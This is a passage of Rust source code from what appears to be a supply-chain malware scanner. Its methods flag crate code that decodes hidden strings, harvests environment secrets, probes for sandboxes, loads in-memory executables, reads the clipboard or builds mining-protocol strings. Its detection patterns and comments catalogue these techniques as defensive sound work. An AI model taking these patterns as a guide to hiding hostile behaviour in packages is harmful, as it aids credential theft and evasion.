        let (Some(constants), Some(callee)) = (self.constants, segments.last()) else {
            return;
        };
        // Tests hand decoders their test vectors; what they compute runs for nobody but the
        // crate's developers, and evaluating each cost a parser's tests half a second.
        if self.in_test() {
            return;
        }
        let evaluated = constants.evaluate(callee, exprs);
        // `var(K_ROOT)` whose body reads `env::var(key(k))`: the variable the name decodes to is
        // read here, whatever its value.
        for name in constants.variables_asked_last() {
            self.variable(&name, line);
        }
        let Some(bytes) = evaluated else {
            // The package's decoder run on constants, beyond what the interpreter works out
            // (a generator of its own type, a table it builds): still a value the code fixes.
            if constants.evaluates()
                && !constants.evaluation_spent()
                && !exprs.is_empty()
                && constants.decodes_text(callee)
            {
                self.push(
                    SignalKind::UnreadDecoding {
                        call: format!("`{callee}(…)`"),
                    },
                    line,
                );
            }
            return;
        };
        self.judge_computed(&bytes, |b| decode::computed_signals(b, callee), line);
    }

    /// A decoder of the package called with one value of the run (`unpack(slot)`, `entry(i)`)
    /// evaluated on the first indices instead (`unpack(0)`, `unpack(1)`, …, while it has an
    /// answer): a table of hidden strings picked by an index hides them whichever index the
    /// run picks. Each answer is judged where the call is, as an evaluated call's is.
    pub fn evaluate_indices(&mut self, segments: &[String], line: u32) {
        if !self.may_evaluate(segments) {
            return;
        }
        let (Some(constants), Some(callee)) = (self.constants, segments.last()) else {
            return;
        };
        if self.in_test()
            || !constants.evaluates()
            || self.probed_decoders.len() >= MAX_PROBED_DECODERS
            || self.probed_decoders.iter().any(|probed| probed == callee)
            || !constants.decodes_text(callee)
        {
            return;
        }
        self.probed_decoders.push(callee.clone());
        let span = proc_macro2::Span::call_site();
        for index in 0..MAX_EVALUATED_INDICES {
            let argument = syn::Expr::Lit(syn::ExprLit {
                attrs: Vec::new(),
                lit: syn::Lit::Int(syn::LitInt::new(&index.to_string(), span)),
            });
            let evaluated = constants.evaluate(callee, &[argument]);
            for name in constants.variables_asked_last() {
                self.variable(&name, line);
            }
            let Some(bytes) = evaluated else {
                return;
            };

            self.judge_computed(&bytes, |b| decode::computed_signals(b, callee), line);
        }
    }

    /// What the package's code computed (`bytes`, read as `found`), where it is used: only what
    /// it hides counts, and reading it is charged to the scan's budget.
    fn judge_computed(&mut self, bytes: &[u8], read: impl Fn(&[u8]) -> Vec<SignalKind>, line: u32) {
        let Some(constants) = self.constants else {
            return;
        };
        if !self.take_budget(bytes.len()) {
            return;
        }
        // Binary data with text inside it (a length byte, argv split on `\x1f`, then the
        // rest of a whitened table): the text is read as the program reads it, run by run.
        if std::str::from_utf8(bytes).is_err() || bytes.iter().any(|b| is_separator(*b)) {
            for run in printable_runs(bytes) {
                if let Ok(text) = std::str::from_utf8(&run) {
                    self.literal(text, line);
                }
                if let Some(found) = hidden_only(read(&run), &run, constants) {
                    self.push_all(found, line);
                }
            }
        }
        // What the code computes is read as if it were written out there: a pool's protocol
        // assembled (`format!("{NS}.{s}")` for `mining.subscribe`), a git command's words
        // reversed (`r("hsup")`), a variable's name spelled in numbers. Text several strings
        // long (NUL-ended, C's way) is read string by string.
        if let Ok(text) = std::str::from_utf8(bytes) {
            if text.len() > MAX_COMPUTED_LITERAL {
                self.mining_literal(text, line);
            } else {
                for piece in text.split('\0').filter(|p| !p.is_empty()) {
                    self.literal(piece, line);
                }
            }
        }
        if let Some(found) = hidden_only(read(bytes), bytes, constants) {
            self.push_all(found, line);
        }
    }

    /// A value looked up (`contains`, `binary_search`) in the constant `list`: a list of hashes
    /// is how code picks the machines or projects it acts on without naming them.
    pub fn looked_up_in(&mut self, list: &str, line: u32) {
        let Some(constants) = self.constants else {
            return;
        };
        if is_constant_name(list) && constants.is_hash_list(list) {
            self.push(
                SignalKind::HashedTargets {
                    list: list.to_owned(),
                },
                line,
            );
        }
    }

    /// `format!`/`concat!` of constants of the package (`format!("https://{}.{}", A, B)`),
    /// evaluated: see [`Self::evaluate_constant_expression`]. Only where a constant is named:
    /// literals alone are read as literals.
    fn constants_put_together(&mut self, name: &str, args: &[Arg], line: u32) {
        if args.len() < 2 || self.constants.is_none() {
            return;
        }
        let mut names_a_constant = matches!(args.first(), Some(Arg::Str(template)) if template.contains('{') && template.bytes().any(|b| b.is_ascii_uppercase()));
        let mut pieces = Vec::with_capacity(args.len());
        for arg in args {
            pieces.push(match arg {
                Arg::Str(s) => format!("{s:?}"),
                Arg::Int(v) => v.to_string(),
                Arg::Bytes(_) => return,
                // Paths to constants only (`NODE`, `&crate::t::ZONE`), judged on the text:
                // parsing every argument of every `format!` would cost more than it finds.
                Arg::Expr(text) => {
                    let path = text.trim().trim_start_matches('&');
                    let plain = path
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b':');
                    if !plain || !path.rsplit("::").next().is_some_and(is_constant_name) {
                        return;
                    }
                    names_a_constant = true;
                    path.to_owned()
                }
            });
        }
        if !names_a_constant {
            return;
        }
        let text = format!("{name}!({})", pieces.join(", "));
        if let Ok(expr) = syn::parse_str::<syn::Expr>(&text) {
            self.evaluate_constant_expression(&expr, line);
        }
    }

    /// An expression made of the package's constants, evaluated ([`evaluate`]): what it spells is
    /// judged like a decoded literal, unless every word of it is spelled out in the package.
    pub fn evaluate_constant_expression(&mut self, expr: &syn::Expr, line: u32) {
        let Some(constants) = self.constants else {
            return;
        };
        if self.frames.is_empty() {
            return;
        }
        let Some(bytes) = constants.evaluate_expression(expr) else {
            return;
        };
        if let Some(destination) = std::str::from_utf8(&bytes)
            .ok()
            .and_then(decode::assembled_destination)
        {
            self.push(destination, line);
        }
        self.judge_computed(&bytes, decode::assembled_signals, line);
    }

    /// A call of one of the package's `macro_rules!` macros with constant arguments (`steps!()`,
    /// `host!(3)`), expanded and evaluated ([`evaluate`]): judged like a call of one of its
    /// functions.
    pub fn evaluate_macro(&mut self, mac: &syn::Macro, name: &str, line: u32) {
        let Some(constants) = self.constants else {
            return;
        };
        if self.frames.is_empty() || !constants.defines_macro(name) {
            return;
        }
        let expr = syn::Expr::Macro(syn::ExprMacro {
            attrs: Vec::new(),
            mac: mac.clone(),
        });
        if !evaluate::is_constant(&expr) {
            return;
        }
        let Some(bytes) = constants.evaluate_expression(&expr) else {
            return;
        };
        self.judge_computed(&bytes, |b| decode::computed_signals(b, name), line);
    }

    /// A call of one of the package's functions that starts the program its parameter names
    /// (`run("whoami", &[])`), with string literals at some positions (`literals`): the program
    /// named there is started here, and judged like one started with `Command::new`.
    pub fn program_through_helper(
        &mut self,
        callee: &str,
        literals: &[(usize, String)],
        line: u32,
    ) {
        let Some(constants) = self.constants else {
            return;
        };
        if self.frames.is_empty() {
            return;
        }
        let telling = |program: &str| {
            !matches!(
                classify_program(program),
                ProgramClass::Other | ProgramClass::BuildTool | ProgramClass::Computed
            )
        };
        if !literals.iter().any(|(_, program)| telling(program)) {
            return;
        }
        let Some(index) = constants.spawned_parameter(callee) else {
            return;
        };
        let Some((_, program)) = literals
            .iter()
            .find(|(at, program)| *at == index && telling(program))
        else {
            return;
        };
        // The caller's own `Command` being built is not this one.
        let pending = self.frames.last_mut().and_then(|f| f.spawn.take());
        self.spawn(Some(&Arg::Str(program.clone())), line, true);
        if let Some(frame) = self.frames.last_mut() {
            frame.spawn = pending;
        }
    }

    /// A variable's name tested against `piece` (`k.starts_with("LIBFOO_")`,
    /// `k.contains("TOKEN")`), `excluded` when what matches is skipped (`!…`, `if … {
    /// continue }`): which of `env::vars()` the function keeps. A crate's own prefix keeps its
    /// settings; a piece of a secret's name keeps secrets.
    pub fn name_filter(&mut self, piece: &str, excluded: bool) {
        let name_like = piece.len() >= 3
            && piece
                .bytes()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_');
        let Some(frame) = self.frames.last_mut() else {
            return;
        };
        if excluded {
            frame.excluding_filter = true;
        }
        if excluded || !name_like {
            return;
        }
        if is_secret_variable(piece) {
            frame
                .secret_name_filter
                .get_or_insert_with(|| piece.to_owned());
        } else if piece.ends_with('_')
            && !matches!(piece, "CARGO_" | "RUST_" | "RUSTC_")
            && !CREDENTIAL_VARIABLE_PREFIXES
                .iter()
                .any(|prefix| piece.starts_with(prefix))
        {
            // The crate's own settings (`LIBFOO_`, read to pass them on), not a service's
            // credentials nor the toolchain's variables.
            frame.own_prefix_filter = true;
        }
    }

    /// A parameter of the current function typed as a connection or a network client
    /// (`agent: &ureq::Agent`, `stream: &mut TcpStream`): what the function reads through it
    /// came over the network, as if it had made the connection itself. Whether it is one.
    /// `held_as` says how the function holds it ("a parameter", "a field").
    pub fn network_parameter(
        &mut self,
        type_segments: &[String],
        line: u32,
        held_as: &str,
    ) -> bool {
        let resolved = self.resolve(type_segments);
        let first = resolved.first().map(String::as_str).unwrap_or("");
        // A client or a connection of a network crate (`ureq::Agent`, `reqwest::Client`), not
        // its other types (`reqwest::Url`, `reqwest::Error`, a status code).
        let last = resolved.last().map(String::as_str).unwrap_or("");
        let network = (NETWORK_CRATES.contains(&first) && CLIENT_TYPES.contains(&last))
            || resolved
                .iter()
                .any(|s| CONNECTION_TYPES.contains(&s.as_str()));
        if network {
            self.push(
                SignalKind::Network {
                    how: format!("{held_as} of type {}", resolved.join("::")),
                },
                line,
            );
        }
        network
    }

    /// Whether a parameter of the type `type_segments` is a request handed to a server's
    /// handler (`req: http::Request<B>` in a tower `Service::call`, `HttpRequest` in an actix
    /// handler): what a client of the service sent, reported as [`SignalKind::ServedRequest`].
    /// Data from the network, but no connection the code holds: what it calls on the request
    /// (`req.headers().get(…)`) reads, and sends nothing.
    pub fn served_request(&mut self, type_segments: &[String], line: u32) -> bool {
        let resolved = self.resolve(type_segments);
        let first = resolved.first().map(String::as_str).unwrap_or("");
        let last = resolved.last().map(String::as_str).unwrap_or("");
        let served = SERVER_CRATES.contains(&first) && REQUEST_TYPES.contains(&last);
        if served {
            self.push(
                SignalKind::ServedRequest {
                    how: format!("a parameter of type {}", resolved.join("::")),
                },
                line,
            );
        }
        served
    }

    /// A connection the current function reads through without having made it (a field of its
    /// type holding one).
    pub fn push_network(&mut self, how: String, line: u32) {
        self.push(SignalKind::Network { how }, line);
    }

    /// The names the current function's parameters bind.
    pub fn set_params(&mut self, names: impl IntoIterator<Item = String>) {
        if let Some(frame) = self.frames.last_mut() {
            frame.params = names.into_iter().take(MAX_READ_PATHS).collect();
        }
    }

    /// Whether a write to `target` rewrites, in place, a file handed to the current function:
    /// `target` is one of its parameters, and the function read it first or `opened_in_place`
    /// (opened for writing without creating or appending).
    fn rewrites_parameter(&self, target: &str, opened_in_place: bool) -> bool {
        let path = written_path(target);
        self.frames.last().is_some_and(|frame| {
            frame.params.contains(&path) && (opened_in_place || frame.read_paths.contains(&path))
        })
    }

    /// A file written at `target`, and whether it is a rewrite in place of a file handed in.
    fn file_write(&mut self, target: String, in_place: bool, line: u32) {
        if in_place {
            self.push(
                SignalKind::RewritesInPlace {
                    target: target.clone(),
                },
                line,
            );
        }
        self.push(SignalKind::FileWrite { target }, line);
    }

    /// Code a procedural macro emits (`quote! { … }`) runs in the program of the crate that
    /// uses the macro, as a library's code does, not in the compiler.
    pub fn enter_emitted_code(&mut self) {
        self.emitted_depth += 1;
    }

    pub fn leave_emitted_code(&mut self) {
        self.emitted_depth = self.emitted_depth.saturating_sub(1);
    }

    pub fn enter_test_region(&mut self) {
        self.test_depth += 1;
    }

    pub fn leave_test_region(&mut self) {
        self.test_depth = self.test_depth.saturating_sub(1);
    }

    pub fn item(&mut self) {
        self.metrics.items += 1;
    }

    /// `use a::b::C as D;` → `D` means `a::b::C`.
    pub fn import(&mut self, alias: &str, full: &str) {
        if alias != "_" && alias != "*" {
            self.imports.insert(alias.to_owned(), full.to_owned());
        }
    }

    /// A `const` or `static` table naming the crate's functions: a node of the call graph
    /// that calls each of them, reached from the code that uses the table by name (see
    /// [`Self::path`]).
    pub fn function_table(&mut self, name: &str, functions: Vec<String>) {
        let id = self.graph_node(name);
        self.graph.calls.entry(id).or_default().extend(functions);
    }

    /// A new scope in the call graph, under `name`.
    fn graph_node(&mut self, name: &str) -> u32 {
        let id = *self.next_scope;
        *self.next_scope += 1;
        self.graph
            .functions
            .entry(name.to_owned())
            .or_default()
            .push(id);
        id
    }

    /// A static registered in a load-time section names the function it calls.
    pub fn load_time_static(&mut self, how: &str, referenced: &[String], line: u32) {
        self.push(
            SignalKind::LoadTimeHook {
                how: how.to_owned(),
            },
            line,
        );
        self.graph.root_names.extend(referenced.iter().cloned());
    }

    // ---- expressions -----------------------------------------------------------------------

    /// A path written in code (a call's function, a type, an expression).
    pub fn path(&mut self, segments: &[String], line: u32) {
        // A constant used by name may be a table of functions ([`Self::function_table`]).
        if let ([name], Some(frame)) = (segments, self.frames.last()) {
            if is_constant_name(name) {
                self.graph
                    .calls
                    .entry(frame.id)
                    .or_default()
                    .insert(name.clone());
            }
        }
        if self.may_decode && self.constants.is_some() {
            if let (Some(last), Some(frame)) = (segments.last(), self.frames.last_mut()) {
                if is_constant_name(last)
                    && frame.constant_uses.len() < 64
                    && !frame.constant_uses.iter().any(|(name, _)| name == last)
                {
                    frame.constant_uses.push((last.clone(), line));
                }
            }
        }
        // The raw system call's number (`libc::syscall(libc::SYS_memfd_create, …)`) makes an
        // in-memory file as surely as the wrapper does.
        if segments
            .last()
            .is_some_and(|last| last == "SYS_memfd_create")
        {
            self.push_once(
                SignalKind::MakeExecutable {
                    target: "an in-memory file (memfd)".into(),
                },
                line,
            );
        }
        let resolved = self.resolve(segments);
        let first = resolved.first().map(String::as_str).unwrap_or("");
        // Address types (`std::net::SocketAddr`) are everywhere; sockets and clients are not.
        if NETWORK_CRATES.contains(&first)
            || resolved.iter().any(|s| NETWORK_TYPES.contains(&s.as_str()))
        {
            let how = resolved.join("::");
            self.push_once(SignalKind::Network { how }, line);
        }
        if resolved.len() >= 2 && HOST_PROFILE_CRATES.contains(&first) {
            self.push_once(
                SignalKind::HostProfile {
                    how: resolved.join("::"),
                },
                line,
            );
        }
    }

    /// A clipboard program named in data (a table of programs to try, `pbpaste` or `xclip`, then
    /// started from a variable), or PowerShell's clipboard commands in a command line.
    fn clipboard_program(&mut self, text: &str, line: u32) {
        if text.len() > 64 {
            return;
        }
        let lower = text.to_ascii_lowercase();
        let program = CLIPBOARD_PROGRAMS.iter().find(|(name, _)| lower == *name);
        let cmdlet = POWERSHELL_CLIPBOARD
            .iter()
            .copied()
            .find(|(cmdlet, _)| lower.contains(cmdlet));
        if let Some((name, write)) = program.copied().or(cmdlet) {
            // Named in data, `xclip` may be the program that copies or the one that pastes:
            // an argument beside it settles which ([`Self::clipboard_mode`]).
            let either_way = CLIPBOARD_EITHER_WAY.contains(&name);
            let how = if either_way {
                format!("names `{name}`")
            } else {
                format!("runs `{name}`")
            };
            self.unsettled_clipboard_tool = None;
            if self.push(SignalKind::Clipboard { how, write }, line) && either_way {
                self.unsettled_clipboard_tool = Some((self.signals.len() - 1, line, 0));
            }
        }
    }

    /// Most literals after an `xclip` or `xsel` named in data that may be its arguments (a
    /// table row `("xclip", &["-selection", "clipboard", "-o"])`, however it is wrapped).
    const CLIPBOARD_ARGUMENTS_SEEN: u8 = 6;

    /// An argument written after an `xclip` or `xsel` named in data that says which way it
    /// works: `-o` prints the clipboard (a read), `-i` puts its input on it (a write).
    fn clipboard_mode(&mut self, text: &str) {
        let Some((index, named_at, seen)) = self.unsettled_clipboard_tool else {
            return;
        };
        let write = if CLIPBOARD_OUTPUT_FLAGS.contains(&text) {
            false
        } else if CLIPBOARD_INPUT_FLAGS.contains(&text) {
            true
        } else {
            self.unsettled_clipboard_tool =
                (seen < Self::CLIPBOARD_ARGUMENTS_SEEN).then_some((index, named_at, seen + 1));
            return;
        };
        self.unsettled_clipboard_tool = None;
        let Some(signal) = self.signals.get_mut(index).filter(|s| s.line == named_at) else {
            return;
        };
        let SignalKind::Clipboard { how, .. } = &signal.kind else {
            return;
        };
        let Some(program) = how
            .strip_prefix("names `")
            .and_then(|rest| rest.strip_suffix('`'))
        else {
            return;
        };
        signal.kind = SignalKind::Clipboard {
            how: if write {
                format!("runs `{program}` to write it")
            } else {
                format!("runs `{program}`")
            },
            write,
        };
    }

    /// Whether the file imports an embedded interpreter's crate.
    fn uses_interpreter(&self) -> bool {
        self.imports
            .values()
            .any(|full| INTERPRETER_CRATES.contains(&full.split("::").next().unwrap_or("")))
    }

    /// A debugger, virtual machine or sandbox looked for, by name.
    fn evasion(&mut self, text: &str, line: u32) {
        if text.len() < 6 {
            return;
        }
        if let Some(found) = EVASION_WORDS.find(text) {
            self.push_once(
                SignalKind::EvasionCheck {
                    what: EVASION_MARKERS[found.pattern().as_usize()].to_owned(),
                },
                line,
            );
        }
    }

    pub fn call(&mut self, segments: &[String], args: &[Arg], line: u32) {
        let named: Vec<&str> = args
            .iter()
            .filter_map(|arg| match arg {
                Arg::Expr(text) => text.trim_start_matches('&').rsplit("::").next(),
                _ => None,
            })
            .collect();
        self.decoder_call(segments, &named, line);
        self.evaluate_call(segments, args, line);
        self.path(segments, line);
        if let Some(last) = segments.last() {
            self.evasion(last, line);
        }
        let resolved = self.resolve(segments);
        if let Some(frame) = self.frames.last_mut() {
            let called = self.graph.calls.entry(frame.id).or_default();
            if let Some(last) = resolved.last() {
                called.insert(last.clone());
            }
            let takes_functions = resolved
                .last()
                .is_some_and(|name| FUNCTION_TAKING.contains(&name.as_str()));
            called.extend(function_references(args, takes_functions));
        }
        let joined = resolved.join("::");
        let tail = |n: usize| {
            resolved[resolved.len().saturating_sub(n)..]
                .iter()
                .map(String::as_str)
                .collect::<Vec<_>>()
                .join("::")
        };
        let last = resolved.last().map(String::as_str).unwrap_or("");
        let last2 = tail(2);
        // An address written as numbers (`Ipv4Addr::new(203, 0, 113, 5)`) is as fixed as one
        // written as text.
        if last2 == "Ipv4Addr::new" {
            if let [Arg::Int(a), Arg::Int(b), Arg::Int(c), Arg::Int(d)] = args {
                for kind in literal_signals(&format!("{a}.{b}.{c}.{d}")) {
                    self.push(kind, line);
                }
            }
        }
        // The same from one number (`0xCB00_7105`) or an array of four.
        if last2 == "Ipv4Addr::from" {
            let address = match args {
                [Arg::Int(number)] => u32::try_from(*number).ok().map(std::net::Ipv4Addr::from),
                [Arg::Expr(text)] => ipv4_from_array(text),
                _ => None,
            };
            if let Some(address) = address {
                for kind in literal_signals(&address.to_string()) {
                    self.push(kind, line);
                }
            }
        }
        // A shared library loaded at run time (`libloading::Library::new(&path)`, `dlopen`,
        // `LoadLibraryW`): its code runs in the process, as a started program's runs beside it.
        let loads_library = matches!(
            last,
            "dlopen" | "LoadLibraryA" | "LoadLibraryW" | "LoadLibraryExA" | "LoadLibraryExW"
        ) || (last2 == "Library::new" && joined.starts_with("libloading"));
        if loads_library {
            let target = match args.first() {
                Some(Arg::Expr(text)) => text.chars().take(80).collect(),
                Some(Arg::Str(path)) => path.clone(),
                _ => format!("a library loaded with `{last2}`"),
            };
            self.push(SignalKind::ExecComputed { target }, line);
        }
        // A WebAssembly module compiled from bytes: code the program runs, like a script handed
        // to an embedded interpreter.
        let first_crate = resolved.first().map(String::as_str).unwrap_or("");
        if WASM_RUNTIME_CRATES.contains(&first_crate)
            && matches!(last2.as_str(), "Module::new" | "Module::from_binary")
        {
            self.push(
                SignalKind::Evaluates {
                    how: format!("{first_crate}::{last2}"),
                },
                line,
            );
        }
        // Numbers turned into text: the function may be rebuilding a string it hides.
        if matches!(last, "from_utf8" | "from_utf8_lossy" | "from_u32") || last2 == "char::from" {
            self.char_arithmetic();
        }
        // What code that destroys data on a condition is made of.
        if TREE_REMOVALS.contains(&last) {
            self.push(
                SignalKind::Destroy {
                    how: joined.clone(),
                },
                line,
            );
        } else if USER_DIRECTORY_FUNCTIONS.contains(&last) {
            self.push(
                SignalKind::UserDirectory {
                    how: joined.clone(),
                },
                line,
            );
        } else if TOOLCHAIN_HOME_FUNCTIONS.contains(&last) {
            self.push(
                SignalKind::ToolchainHome {
                    how: joined.clone(),
                    joined: false,
                },
                line,
            );
        } else if last == "current_dir" && resolved.len() >= 2 {
            self.push(
                SignalKind::WorkingDirectory {
                    how: joined.clone(),
                },
                line,
            );
        } else if LOCALE_FUNCTIONS.contains(&last) {
            self.push(
                SignalKind::LocaleCheck {
                    how: joined.clone(),
                },
                line,
            );
        } else if joined.to_ascii_lowercase().contains(CLIPBOARD_PATH_WORD)
            || CLIPBOARD_READS.contains(&last)
            || CLIPBOARD_WRITES.contains(&last)
        {
            self.push(
                SignalKind::Clipboard {
                    how: joined.clone(),
                    write: CLIPBOARD_WRITES.contains(&last),
                },
                line,
            );
        } else if matches!(
            last,
            "from_raw_fd"
                | "from_raw_socket"
                | "into_raw_fd"
                | "into_raw_socket"
                | "dup"
                | "dup2"
                | "dup3"
        ) || matches!(last2.as_str(), "OwnedFd::from" | "OwnedSocket::from")
        {
            self.push(
                SignalKind::RawHandle {
                    how: joined.clone(),
                },
                line,
            );
        } else if last == "remove_file" {
            self.push(
                SignalKind::RemovesFile {
                    how: joined.clone(),
                },
                line,
            );
        } else if RANDOM_CALLS.contains(&last2.as_str())
            || resolved.first().is_some_and(|s| s == "fastrand")
        {
            self.push(
                SignalKind::RandomChoice {
                    how: joined.clone(),
                },
                line,
            );
        } else if DIRECTORY_WALKS.contains(&last) || DIRECTORY_WALKS.contains(&last2.as_str()) {
            self.push(
                SignalKind::WalksFiles {
                    how: joined.clone(),
                },
                line,
            );
        } else if last == "stdin" || last2.starts_with("Confirm::") {
            self.push(
                SignalKind::AsksUser {
                    how: joined.clone(),
                },
                line,
            );
        }

        // Processes.
        if last2 == "Command::new" || last == "cmd" && resolved.first().is_some_and(|s| s == "duct")
        {
            let definite = joined.contains("process::Command")
                || resolved
                    .first()
                    .is_some_and(|s| s == "duct" || s == "async_process");
            let clap_like = joined.contains("clap::");
            if !clap_like {
                self.spawn(args.first(), line, definite);
            }
            return;
        }
        if matches!(
            last,
            "system"
                | "popen"
                | "execv"
                | "execve"
                | "execvp"
                | "execvpe"
                | "execl"
                | "execlp"
                | "posix_spawn"
                | "posix_spawnp"
                | "CreateProcessA"
                | "CreateProcessW"
                | "ShellExecuteA"
                | "ShellExecuteW"
                | "ShellExecuteExA"
                | "ShellExecuteExW"
                | "WinExec"
        ) && (resolved.len() > 1 || last.starts_with(char::is_uppercase))
            // Each takes the program or command line: `Address::system()`, a constructor of
            // the same name, takes nothing.
            && !args.is_empty()
        {
            let program = args
                .iter()
                .find(|a| matches!(a, Arg::Str(_)))
                .or(args.first());
            self.spawn(program, line, true);
            if let Some(Arg::Str(script)) = program {
                if last == "system" || last == "popen" {
                    self.push_all(shell_signals(script), line);
                }
            }
            return;
        }
        // A native function looked up by name: only a name the code computes can be one chosen
        // elsewhere (`c"tzset"`, `b"getpid\0".as_ptr()` are the code's own choice).
        if matches!(last, "dlsym" | "GetProcAddress")
            && args
                .get(1)
                .is_some_and(|name| matches!(name, Arg::Expr(text) if !text.contains('"')))
        {
            self.push(
                SignalKind::NativeByName {
                    how: joined.clone(),
                },
                line,
            );
            return;
        }
        if matches!(last, "memfd_create" | "fexecve") {
            self.push(
                SignalKind::MakeExecutable {
                    target: "an in-memory file (memfd)".into(),
                },
                line,
            );
            if last == "fexecve" {
                self.push(
                    SignalKind::ExecComputed {
                        target: "an in-memory file (fexecve)".into(),
                    },
                    line,
                );
            }
            return;
        }

        // Files.
        match last2.as_str() {
            "fs::read" | "fs::read_to_string" | "File::open" => {
                if let (Some(path), Some(frame)) = (args.first(), self.frames.last_mut()) {
                    let path = written_path(&path.text());
                    if !path.is_empty() && frame.read_paths.len() < MAX_READ_PATHS {
                        frame.read_paths.push(path);
                    }
                }
                return;
            }
            "fs::write" | "File::create" | "fs::copy" | "fs::rename" | "fs::hard_link" => {
                let target = if matches!(last, "copy" | "rename" | "hard_link") {
                    args.get(1)
                } else {
                    args.first()
                };
                let target = target.map(Arg::text).unwrap_or_default();
                let in_place =
                    matches!(last, "write" | "create") && self.rewrites_parameter(&target, false);
                self.file_write(target, in_place, line);
                return;
            }
            "fs::set_permissions" => {
                // Marked executable only with a mode that has execute bits, checked below.
                return;
            }
            "Permissions::from_mode" | "PermissionsExt::from_mode" => {
                if args.iter().any(has_exec_bits) {
                    self.push(
                        SignalKind::MakeExecutable {
                            target: "Permissions::from_mode".into(),
                        },
                        line,
                    );
                }
                return;
            }
            _ => {}
        }
        if matches!(last, "chmod" | "fchmod" | "fchmodat") && args.iter().any(has_exec_bits) {
            self.push(
                SignalKind::MakeExecutable {
                    target: args.first().map(Arg::text).unwrap_or_default(),
                },
                line,
            );
            return;
        }
        if matches!(last, "URLDownloadToFileA" | "URLDownloadToFileW") {
            self.push(
                SignalKind::FileWrite {
                    target: args.get(2).map(Arg::text).unwrap_or_default(),
                },
                line,
            );
            return;
        }

        // Environment.
        if last2 == "env::vars" || last2 == "env::vars_os" {
            self.push(
                SignalKind::EnvHarvest {
                    how: "env::vars()".into(),
                },
                line,
            );
            return;
        }
        if matches!(
            last2.as_str(),
            "env::var" | "env::var_os" | "dotenv::var" | "dotenvy::var"
        ) {
            match args.first() {
                Some(Arg::Str(name)) => self.variable(name, line),
                // `for name in ["LC_ALL", "LANG"] { env::var(name) }`: each name the function
                // lists may be the one read.
                Some(Arg::Expr(_)) => {
                    let names = self
                        .frames
                        .last()
                        .map(|frame| frame.variable_names.clone())
                        .unwrap_or_default();
                    for name in names {
                        self.variable(&name, line);
                    }
                }
                _ => {}
            }
            return;
        }

        // Decoding.
        if is_decoder_path(&resolved) {
            self.push(
                SignalKind::Decode {
                    how: joined.clone(),
                },
                line,
            );
            return;
        }
        if matches!(
            last,
            "from_utf8" | "from_utf8_lossy" | "from_utf8_unchecked"
        ) && args.first().is_some_and(|a| match a {
            Arg::Expr(e) => {
                e.trim_start_matches('&').trim_start().starts_with('[') || e.contains("vec!")
            }
            Arg::Bytes(_) => true,
            _ => false,
        }) {
            self.push(
                SignalKind::Decode {
                    how: "a string assembled from byte literals".into(),
                },
                line,
            );
            return;
        }
        if last2 == "char::from_u32" || last2 == "char::from" || last2 == "char::from_digit" {
            self.char_arithmetic();
        }
        if matches!(last, "host_name" | "get_current_username" | "get_hostname") {
            self.push(SignalKind::HostProfile { how: joined }, line);
        }
    }

    /// A function handed over by name where its arguments are not kept (see
    /// [`function_references`]).
    pub fn handed_over(&mut self, method: &str, path: &str) {
        let takes_functions = FUNCTION_TAKING.contains(&method);
        if let (Some(frame), Some(name)) = (
            self.frames.last(),
            function_references(&[Arg::Expr(path.to_owned())], takes_functions).next(),
        ) {
            self.graph.calls.entry(frame.id).or_default().insert(name);
        }
    }

    pub fn method(&mut self, name: &str, receiver: &str, args: &[Arg], line: u32) {
        if let Some(frame) = self.frames.last_mut() {
            let called = self.graph.calls.entry(frame.id).or_default();
            called.insert(name.to_owned());
            called.extend(function_references(args, FUNCTION_TAKING.contains(&name)));
        }
        // Code handed to an embedded interpreter the file uses.
        if EVALUATING_METHODS.contains(&name) && self.uses_interpreter() {
            self.push(
                SignalKind::Evaluates {
                    how: format!(".{name}()"),
                },
                line,
            );
        }
        match name {
            "rev" => self.reversal(),
            "push" if args.len() == 2 => self.two_argument_push(),
            // A constant table of pieces joined where it is used (`RELAY.concat()`), maybe in
            // another module than the one that defines it.
            "concat" if args.is_empty() => self.joined_constant(receiver, line),
            // A whole directory tree put into an archive (`tar::Builder`): a walk.
            "append_dir_all" => {
                self.push(
                    SignalKind::WalksFiles {
                        how: ".append_dir_all() (a directory tree archived)".to_owned(),
                    },
                    line,
                );
            }
            // A value looked up in a constant list of hashes: which machines or projects the
            // code picks, without naming them.
            "contains" | "binary_search" if args.len() == 1 => {
                if let Some(list) = constant_receiver(receiver) {
                    self.looked_up_in(list, line);
                }
            }
            // `home.join(".cargo")`: the toolchain's directory under the home directory.
            "join" | "push"
                if matches!(args, [Arg::Str(component)]
                    if TOOLCHAIN_HOME_DIRECTORIES.contains(&component.trim_end_matches('/'))) =>
            {
                if let [Arg::Str(component)] = args {
                    self.push(
                        SignalKind::ToolchainHome {
                            how: format!(".{name}({component:?})"),
                            joined: true,
                        },
                        line,
                    );
                }
            }
            "join" if matches!(args, [Arg::Str(separator)] if separator.is_empty()) => {
                self.joined_constant(receiver, line)
            }
            // `LABELS.join(".")`: pieces of a constant joined with a separator.
            "join" => {
                if let (Some(list), [Arg::Str(separator)]) = (constant_receiver(receiver), args) {
                    if is_constant_name(list) {
                        let text = format!("{list}.join({separator:?})");
                        if let Ok(expr) = syn::parse_str::<syn::Expr>(&text) {
                            self.evaluate_constant_expression(&expr, line);
                        }
                    }
                }
            }
            _ if CLIPBOARD_READS.contains(&name) || CLIPBOARD_WRITES.contains(&name) => {
                self.push(
                    SignalKind::Clipboard {
                        how: format!(".{name}()"),
                        write: CLIPBOARD_WRITES.contains(&name),
                    },
                    line,
                );
            }
            "into_raw_fd" | "as_raw_fd" | "into_raw_socket" | "as_raw_socket" => {
                self.push(
                    SignalKind::RawHandle {
                        how: format!(".{name}()"),
                    },
                    line,
                );
            }
            _ if RANDOM_METHODS.contains(&name) => {
                self.push(
                    SignalKind::RandomChoice {
                        how: format!(".{name}()"),
                    },
                    line,
                );
            }
            _ if USER_DIRECTORY_FUNCTIONS.contains(&name) => {
                self.push(
                    SignalKind::UserDirectory {
                        how: format!(".{name}()"),
                    },
                    line,
                );
            }
            // Bytes shifted back into text (`b.wrapping_sub(3)`, then `String::from_utf8`).
            "wrapping_add" | "wrapping_sub" => self.char_arithmetic(),
            "arg" | "args" | "raw_arg" => self.spawn_arguments(args, line),
            "spawn" | "output" | "status" | "exec" => {
                if let Some(frame) = self.frames.last_mut() {
                    frame.runs_command = true;
                }
            }
            "to_socket_addrs" => self.push_once(
                SignalKind::Network {
                    how: "DNS resolution (to_socket_addrs)".into(),
                },
                line,
            ),
